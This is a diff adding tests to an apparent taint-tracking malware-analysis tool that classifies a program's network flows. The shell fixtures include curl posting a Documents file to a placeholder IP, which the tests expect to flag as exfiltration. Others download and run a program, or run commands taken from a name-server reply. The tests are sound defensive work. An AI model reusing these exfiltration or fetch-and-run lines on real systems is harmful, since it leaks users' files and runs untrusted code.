@@ -2,6 +2,7 @@
 import json
 import os
 import shutil
+import struct
 import subprocess
 import unittest
 
@@ -202,6 +203,9 @@ class Consequences(TaintTest):
         self.assertIn(f"content  send {SERVER}:{PORT}  on flow {flow['id']}  bytes {loot}-", shown)
         self.run_program("influence", run, "--file", "x", "--on", "y", status=2)
         self.run_program("influence", run, "--on-flow", "1", "--bytes", "9-3", status=2)
+        for nobody in (flow["id"] + (1 << 32), 77):
+            failed = self.run_program("influence", run, "--flow", str(nobody), status=2)
+            self.assertIn(f"this run has no flow {nobody}".encode(), failed.stderr)
 
     def test_a_chosen_file_is_followed_too(self):
         """A file that no thief looks for, until somebody says that it matters."""
@@ -257,6 +261,102 @@ class Consequences(TaintTest):
         self.assertEqual(run["outcome"], "exited")
         self.assertTrue(any("package qemu-user" in remark for remark in run["remarks"]), run["remarks"])
         self.assertNotIn("emulator", run)
+
+
+class Clients(TaintTest):
+    """Real clients, which know their servers by name, as scripts use them."""
+
+    REPLIES = """
+        [[http]]
+        host = "files.example"
+        path = "/program"
+        body = "#!/bin/sh\\necho staged > /tmp/staged\\n"
+        [[http]]
+        host = "files.example"
+        path = "/archive"
+        file = "archive.tar"
+        [[http]]
+        host = "*"
+        body = "fine"
+    """
+
+    def script(self, *needed, lines):
+        for tool in (*needed, "qemu-x86_64"):
+            if not shutil.which(tool):
+                self.skipTest(f"no {tool}")
+        program = self.write("client.sh", "#!/bin/sh\n" + lines + "\n")
+        self.can_run()
+        (self.scratch / "archive.tar").touch()
+        run = self.analyze(program, "--taint", "--replies", self.write("replies.toml", self.REPLIES))[0]
+        self.assertEqual(run["outcome"], "exited", run["outcome_detail"])
+        return run
+
+    def roles(self, run):
+        known = lambda flow: flow.get("host") if flow.get("host", "").endswith(".example") else flow["protocol"]
+        return {known(flow): flow["role"] for flow in run["flows"] if flow.get("role")}
+
+    def said(self, run):
+        return [(flow["remote"], flow["evidence"]) for flow in run["flows"]]
+
+    def test_a_page_that_is_fetched_convicts_nobody(self):
+        for tool, line in (("curl", "curl -s -o /tmp/page http://pages.example/"),
+                           ("wget", "wget -q -O /tmp/page http://pages.example/")):
+            with self.subTest(tool):
+                run = self.script(tool, lines=line)
+                self.assertEqual(self.roles(run), {}, self.said(run))
+                flow = next(flow for flow in run["flows"] if flow.get("host") == "pages.example")
+                self.assertEqual([(file["path"], file["executed"]) for file in flow["to_files"]], [("/tmp/page", False)])
+
+    def test_a_file_that_is_run_came_from_its_server_and_not_from_who_knew_the_name(self):
+        for tool, line in (("curl", "curl -s -o /tmp/program http://files.example/program"),
+                           ("wget", "wget -q -O /tmp/program http://files.example/program")):
+            with self.subTest(tool):
+                run = self.script(tool, lines=line + "\nchmod +x /tmp/program\n/tmp/program")
+                self.assertTrue(any(file["path"] == "/tmp/staged" for file in run["files"]), run["files"])
+                self.assertEqual(self.roles(run), {"files.example": "distribution"}, self.said(run))
+
+    def test_an_archive_that_is_unpacked_is_no_command(self):
+        inside = self.scratch / "app"
+        (inside / "empty").mkdir(parents=True)
+        (inside / "conf").mkdir()
+        (inside / "readme").write_text("read me")
+        (inside / "conf/x").write_text("x = 1")
+        subprocess.run(["tar", "cf", self.scratch / "archive.tar", "-C", self.scratch, "app"], check=True)
+        run = self.script("curl", "tar", lines="cd /tmp\ncurl -s -o archive.tar http://files.example/archive\ntar xf archive.tar\nls app/empty")
+        self.assertTrue(any(file["path"] == "/tmp/app/conf/x" for file in run["files"]), run["files"])
+        self.assertEqual(self.roles(run), {}, self.said(run))
+
+    def test_what_the_run_made_itself_is_no_loot(self):
+        run = self.script("curl", lines="mkdir -p ~/.config/google-chrome\necho client-7731 > ~/.config/google-chrome/id\n"
+                          "curl -s -d @$HOME/.config/google-chrome/id http://telemetry.example/\n"
+                          "curl -s -d @$HOME/Documents/notes.txt http://203.0.113.9/")
+        self.assertEqual(self.roles(run), {"http": "drop"}, self.said(run))
+
+    def test_a_name_server_that_says_what_to_run_commands(self):
+        """Its answer is a client's of names; here it reaches the arguments of a program that is run."""
+        source, program = self.scratch / "resolver.c", self.scratch / "resolver"
+        source.write_text(f"""
+            #define SERVER 0xcb007107
+            #define ENCODING 0
+            #include "{SOURCES}/client.h"
+            int main(void) {{
+              static const char question[] =
+                  "\\x53\\x49\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\003cmd\\007example\\0\\0\\x10\\0\\x01";
+              const int s = dial({PORT});
+              static char answer[512];
+              if (send(s, question, sizeof question - 1, 0) < 0) return 1;
+              const long n = recv(s, answer, sizeof answer - 1, 0);
+              if (n > 0) run_program("/bin/echo", answer);
+              return 0;
+            }}""")
+        subprocess.run(["gcc", "-O1", "-w", source, "-o", program], check=True)
+        if not shutil.which("qemu-x86_64"):
+            self.skipTest("no qemu-x86_64")
+        self.can_run()
+        replies = self.write("replies.toml", f'[[tcp]]\nport = {PORT}\nsteps = [{{ send = "go and see", close = true }}]\n')
+        run = self.analyze(program, "--taint", "--replies", replies)[0]
+        self.assertTrue(any("go and see" in process["argv"] for process in run["processes"]), run["processes"])
+        self.assertEqual(self.flow(run).get("role"), "c2", self.said(run))
 
 
 # Which processor does it say that it is? "QEMU TCG CPU" is what an emulated one calls itself.
@@ -362,6 +462,28 @@ class Doubts(TaintTest):
         self.assertEqual(run["processes"][0]["how_ended"], "exited 4")
         self.assertNotIn("emulator", run)
         self.said(run, "taint was not followed: qemu-i386 is missing (Debian's package qemu-user has it)")
+
+    def test_instructions_that_no_rule_knows(self):
+        """A program for RISC-V runs in its emulator, without taint, and that is said; where the emulator is missing, which
+        package has it."""
+        code = struct.pack("<3I", 0x05D00893, 0x00400513, 0x00000073)  # li a7, 93; li a0, 4; ecall: exit(4)
+        start, base, head = 0x78, 0x10000, 0x40
+        elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 243, 1, base + start, head, 0, 0, 64, 56, 1, 0, 0, 0)
+        elf += struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, start + len(code), start + len(code), 0x1000) + code
+        program = self.scratch / "riscv"
+        program.write_bytes(elf)
+        program.chmod(0o755)
+        self.can_run()
+        if not shutil.which("qemu-riscv64") or not shutil.which("qemu-x86_64"):
+            self.skipTest("qemu-user is not installed")
+        run = self.analyze(program, "--taint")[0]
+        self.assertEqual((run["outcome"], run["emulator"]), ("exited", "qemu-riscv64"), run["outcome_detail"])
+        self.assertEqual(run["processes"][0]["how_ended"], "exited 4")
+        self.said(run, "taint was not followed: it has no rules for the instructions of riscv64")
+        self.assertNotIn("taint_tables", run)
+        missing = self.analyze(program, "--taint", env={"PATH": "/nonexistent"})[0]
+        self.assertEqual(missing["outcome"], "refused")
+        self.assertIn("qemu-riscv64 runs such here, and is missing (Debian's package qemu-user has it)", missing["outcome_detail"])
 
     def test_a_start_that_no_emulator_can_take(self):
         """An argument list beyond what can be rewritten goes to the kernel as it is."""
